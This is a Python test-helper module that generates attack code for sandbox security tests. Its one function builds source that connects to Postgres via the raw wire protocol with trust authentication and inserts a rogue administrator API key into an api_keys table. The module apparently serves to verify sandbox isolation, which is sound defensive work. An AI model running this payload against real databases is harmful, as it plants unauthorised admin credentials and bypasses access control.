"""Attack code run inside the sandbox by the security tests (plain Python source)."""
from __future__ import annotations

import textwrap


def pg_insert_admin_key(socket_path: str | None, host: str | None, database: str,
                        key_name: str) -> str:
    """Python source that talks Postgres' wire protocol (trust auth, as the machine's
    Postgres allows) over a Unix socket or TCP and inserts an admin API key. Prints
    "inserted" if the server accepted the INSERT, else the error."""
    return textwrap.dedent(f"""
        import socket, struct
        def msg(kind, body):
            return kind + struct.pack("!I", len(body) + 4) + body
        try:
            if {socket_path!r}:
                s = socket.socket(socket.AF_UNIX)
                s.connect({socket_path!r})
            else:
                s = socket.create_connection(({host!r}, 5432), timeout=5)
            params = b"user\\0postgres\\0database\\0" + {database!r}.encode() + b"\\0\\0"
            body = struct.pack("!I", 196608) + params
            s.sendall(struct.pack("!I", len(body) + 4) + body)
            sql = ("INSERT INTO api_keys (id, name, key_hash, prefix, is_admin, created_at) "
                   "VALUES (gen_random_uuid(), '{key_name}', md5(random()::text) || "
                   "md5(random()::text), 'aq_evil', true, now())")
            s.sendall(msg(b"Q", sql.encode() + b"\\0"))
            seen = b""
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                seen += chunk
                if b"INSERT 0 1" in seen or b"ERROR" in seen or b"FATAL" in seen:
                    break
            print("inserted" if b"INSERT 0 1" in seen else "refused: " + repr(seen[-200:]))
        except OSError as exc:
            print("blocked:", type(exc).__name__, exc.errno)
    """)
